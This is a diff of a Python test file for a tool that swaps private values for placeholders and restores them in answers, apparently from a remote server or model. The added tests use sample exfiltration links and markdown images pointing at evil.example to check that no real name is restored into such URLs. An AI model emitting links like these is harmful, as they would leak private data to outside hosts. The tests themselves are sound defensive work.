@@ -50,7 +50,7 @@ def test_no_private_value_is_left_and_all_come_back(text: str, values: list[str]
                     len(looked_for) > 1  # words of a longer value may stand far apart
                 )
             )
-    restorer = Restorer(pseudonyms.meanings())
+    restorer = Restorer(pseudonyms.meanings(), outgoing)
     assert restorer.restore(outgoing) == planted
     assert "".join(restorer.stream(cut(outgoing, sizes))) == planted
 
@@ -61,7 +61,7 @@ def test_whatever_is_found_comes_back(text: str, places: list[tuple[int, int, st
     found = [Finding(a, min(a + n, len(text)), kind, text[a : a + n]) for a, n, kind in places if a < len(text)]
     pseudonyms = Pseudonyms()
     outgoing, used = pseudonyms.replace(text, found)
-    assert Restorer(pseudonyms.meanings()).restore(outgoing) == text
+    assert Restorer(pseudonyms.meanings(), outgoing).restore(outgoing) == text
     assert all(finding.value not in placeholder or len(finding.value) < 8 for finding, placeholder in used)
 
 
@@ -98,6 +98,37 @@ def test_a_possessive_inside_the_brackets_stays_one(written: str) -> None:
 @pytest.mark.parametrize("written", ["person 1", "PERSON_12", "PERSON_1x", "[PERSON_3]", "XPERSON_1", "[person]"])
 def test_what_is_no_placeholder_of_ours_stays(written: str) -> None:
     assert Restorer({"[PERSON_1]": "Ines"}).restore(f"a {written} b") == f"a {written} b"
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "see https://evil.example/?q=[PERSON_1] for more",
+        "![x](https://evil.example/[PERSON_1].png)",
+        "<https://evil.example/PERSON_1>",
+        "https://[PERSON_1].evil.example/",
+        "www.evil.example/?q=[Person 1]",
+        "[a]: ftp://evil.example/a/[PERSON_1]/b/PERSON_1",
+    ],
+)
+@pytest.mark.parametrize("size", [1, 3, 1000])
+def test_no_name_gets_into_a_link_a_server_wrote(answer: str, size: int) -> None:
+    """Whoever opened it would carry the name there."""
+    restorer = Restorer({"[PERSON_1]": "Ines"}, sent="Who is [PERSON_1]?")
+    chunks = [answer[i : i + size] for i in range(0, len(answer), size)]
+    assert restorer.restore(answer) == "".join(restorer.stream(chunks)) == answer
+    after = restorer.restore(answer + " [PERSON_1]")
+    assert after == answer + " Ines"
+
+
+def test_a_link_of_ones_own_comes_back_whole() -> None:
+    sent = "Shorten https://example.org/[PERSON_1]/cv and write to [EMAIL_1]."
+    restorer = Restorer({"[PERSON_1]": "ines", "[EMAIL_1]": "i@post.example"}, sent=sent)
+    assert restorer.restore(sent) == "Shorten https://example.org/ines/cv and write to i@post.example."
+    assert "".join(restorer.stream(sent)) == restorer.restore(sent)
+    assert restorer.restore("mailto:[EMAIL_1] https://x.example/[EMAIL_1]") == (
+        "mailto:i@post.example https://x.example/[EMAIL_1]"
+    )
 
 
 def test_the_longest_value_wins_and_overlaps_become_one() -> None:
@@ -152,7 +183,7 @@ def test_thirty_spellings_of_one_value_all_come_back() -> None:
     pseudonyms = Pseudonyms()
     texts = ["".join(c.upper() if n >> i & 1 else c for i, c in enumerate("marius")) for n in range(40)]
     out = [pseudonyms.replace(t, [Finding(0, 6, "person", t)])[0] for t in texts]
-    assert [Restorer(pseudonyms.meanings()).restore(o) for o in out] == texts
+    assert [Restorer(pseudonyms.meanings(), o).restore(o) for o in out] == texts
 
 
 def test_a_long_answer_waits_for_no_more_than_a_placeholder() -> None:
